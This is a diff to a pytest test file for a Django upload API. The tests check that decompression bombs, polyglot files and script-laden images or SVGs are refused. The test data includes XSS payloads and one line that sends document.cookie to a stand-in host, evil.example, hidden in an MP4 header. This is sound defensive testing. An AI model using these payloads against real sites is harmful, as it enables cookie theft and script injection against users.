@@ -16,9 +16,6 @@ import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
 from PIL import Image
 
-from live.models import Event
-from reporting.models import Attachment, Report
-
 URL = "/api/v1/reports/"
 LOCATION = '{"type":"Point","coordinates":[2.3522,48.8566]}'
 
@@ -42,17 +39,6 @@ def send(as_user, resident):
         return client.post(URL, form(upload), format="multipart")
 
     return post
-
-
-@pytest.fixture
-def nothing_left(stored_files):
-    def check():
-        assert not Report.objects.exists()
-        assert not Attachment.objects.exists()
-        assert not Event.objects.exists()
-        assert stored_files() == []
-
-    return check
 
 
 def refused(response, status: int, code: str) -> None:
@@ -114,21 +100,21 @@ def jpeg_with_segments(count: int, marker: bytes = b"\xff\xe1") -> bytes:
     [(30_000, 30_000), (8_000, 7_000), (1, 2**31 - 1)],
     ids=["beyond-pillow-ceiling", "beyond-our-limit", "one-pixel-wide"],
 )
-def test_a_png_declaring_too_many_pixels_is_413(send, nothing_left, width, height):
+def test_a_png_declaring_too_many_pixels_is_413(send, nothing_stored, width, height):
     started = time.perf_counter()
     response = send("bomb.png", png_declaring(width, height), "image/png")
     refused(response, 413, "media_too_large")
     assert time.perf_counter() - started < 2  # refused from the header, nothing inflated
-    nothing_left()
+    nothing_stored()
 
 
-def test_a_png_with_a_compressed_text_bomb_is_refused(send, nothing_left):
+def test_a_png_with_a_compressed_text_bomb_is_refused(send, nothing_stored):
     # zTXt: 20 MB of text compressed to about 20 KB; Pillow refuses to inflate it.
     text = zlib.compress(b"A" * 20_000_000, 9)
     base = png()
     bomb = base[:33] + png_chunk(b"zTXt", b"Comment\x00\x00" + text) + base[33:]
     refused(send("text.png", bomb, "image/png"), 415, "unsupported_media")
-    nothing_left()
+    nothing_stored()
 
 
 # --- polyglots and disguised files ----------------------------------------------------------------
@@ -143,21 +129,21 @@ def test_a_png_with_a_compressed_text_bomb_is_refused(send, nothing_left):
     ],
     ids=["script", "html-page", "iframe"],
 )
-def test_a_real_jpeg_carrying_markup_is_415(send, nothing_left, payload):
+def test_a_real_jpeg_carrying_markup_is_415(send, nothing_stored, payload):
     refused(send("photo.jpg", jpeg() + payload), 415, "unsupported_media")
-    nothing_left()
+    nothing_stored()
 
 
 MP4_HEAD = b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + b"\x00\x00\x01\x08free"
 
 
-def test_a_video_that_is_also_a_page_is_415(send, nothing_left):
+def test_a_video_that_is_also_a_page_is_415(send, nothing_stored):
     # Videos are stored as sent (no re-encoding), so this refusal is their only guard.
     page = b"<!DOCTYPE html><script>document.location='https://evil.example/'+document.cookie"
     refused(
         send("clip.mp4", MP4_HEAD + page.ljust(256, b" "), "video/mp4"), 415, "unsupported_media"
     )
-    nothing_left()
+    nothing_stored()
 
 
 def test_a_plain_video_is_kept_as_sent(send, stored_files):
@@ -168,18 +154,18 @@ def test_a_plain_video_is_kept_as_sent(send, stored_files):
     assert stored.read_bytes() == video
 
 
-def test_markup_hidden_in_a_jpeg_comment_is_415(send, nothing_left):
+def test_markup_hidden_in_a_jpeg_comment_is_415(send, nothing_stored):
     comment = b"<script>alert(document.cookie)</script>"
     base = jpeg()
     segment = b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment
     refused(send("photo.jpg", base[:2] + segment + base[2:]), 415, "unsupported_media")
-    nothing_left()
+    nothing_stored()
 
 
-def test_a_gif_javascript_polyglot_is_415(send, nothing_left):
+def test_a_gif_javascript_polyglot_is_415(send, nothing_stored):
     polyglot = b"GIF89a/*\x01\x00\x01\x00\x00\x00\x00*/=alert(document.domain);//" + b"\x00" * 64
     refused(send("cat.jpg", polyglot, "image/gif"), 415, "unsupported_media")
-    nothing_left()
+    nothing_stored()
 
 
 def zip_file() -> bytes:
@@ -199,19 +185,19 @@ def zip_file() -> bytes:
     ],
     ids=["zip", "pdf", "html", "jpeg-header-then-html"],
 )
-def test_a_file_named_jpg_that_is_something_else_is_415(send, nothing_left, content):
+def test_a_file_named_jpg_that_is_something_else_is_415(send, nothing_stored, content):
     refused(send("holiday.jpg", content), 415, "unsupported_media")
-    nothing_left()
+    nothing_stored()
 
 
-def test_an_svg_with_a_script_is_415(send, nothing_left):
+def test_an_svg_with_a_script_is_415(send, nothing_stored):
     svg = (
         b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
         b"<script>alert(document.cookie)</script><rect width='10' height='10'/></svg>"
     )
     refused(send("drawing.svg", svg, "image/svg+xml"), 415, "unsupported_media")
     refused(send("drawing.jpg", svg, "image/jpeg"), 415, "unsupported_media")
-    nothing_left()
+    nothing_stored()
 
 
 # --- lying content types --------------------------------------------------------------------------
@@ -220,9 +206,9 @@ def test_an_svg_with_a_script_is_415(send, nothing_left):
 @pytest.mark.parametrize(
     "claimed", ["text/html", "application/javascript", "application/x-msdownload"]
 )
-def test_a_real_photo_declared_as_something_dangerous_is_415(send, nothing_left, claimed):
+def test_a_real_photo_declared_as_something_dangerous_is_415(send, nothing_stored, claimed):
     refused(send("photo.jpg", jpeg(), claimed), 415, "unsupported_media")
-    nothing_left()
+    nothing_stored()
 
 
 def test_a_png_declared_as_jpeg_is_stored_as_the_png_it_is(send, stored_files):
@@ -279,11 +265,11 @@ def test_only_orientation_survives_a_crowded_exif(send, stored_files):
     assert dict(Image.open(stored).getexif()) == {0x0112: 6}
 
 
-def test_one_attack_among_good_files_stores_nothing(as_user, resident, nothing_left):
+def test_one_attack_among_good_files_stores_nothing(as_user, resident, nothing_stored):
     uploads = [
         SimpleUploadedFile("good.jpg", jpeg(), content_type="image/jpeg"),
         SimpleUploadedFile("bomb.png", png_declaring(30_000, 30_000), content_type="image/png"),
     ]
     response = as_user(resident).post(URL, form(*uploads), format="multipart")
     refused(response, 413, "media_too_large")
-    nothing_left()
+    nothing_stored()
